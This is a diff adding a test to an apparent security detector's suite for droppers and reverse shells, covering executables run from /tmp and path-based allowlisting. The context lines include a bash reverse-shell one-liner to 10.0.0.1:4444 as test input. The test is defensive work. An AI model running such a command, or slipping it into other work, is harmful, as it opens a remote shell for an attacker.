@@ -83,6 +83,18 @@ describe('droppers and reverse shells', () => {
     expect(detectExec('/usr/bin/env', ['node', 'x.js'], [], ['*'], dropped, roots)).toEqual([]);
   });
 
+  test('a /tmp program declared by its absolute path is not a dropper; its basename or * does not excuse it', () => {
+    const dropped = new Set(['/tmp/chromium/headless_shell']);
+    expect(detectExec('/tmp/chromium/headless_shell', ['--x'], [], ['/tmp/chromium/headless_shell'], dropped, roots)).toEqual([]);
+    expect(detectExec('/tmp/chromium/../chromium/headless_shell', [], [], ['/tmp/chromium/headless_shell'], dropped, roots)).toEqual([]);
+    expect(kinds(detectExec('/tmp/chromium/headless_shell', [], [], ['headless_shell'], dropped, roots))).toEqual([
+      'dropper/dropped_file_exec',
+    ]);
+    expect(kinds(detectExec('/tmp/chromium/other', [], [], ['/tmp/chromium/headless_shell', '*'], dropped, roots))).toEqual([
+      'dropper/exec_from_tmp',
+    ]);
+  });
+
   test.each([
     ['/bin/bash', ['-i']],
     ['/bin/sh', ['-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']],
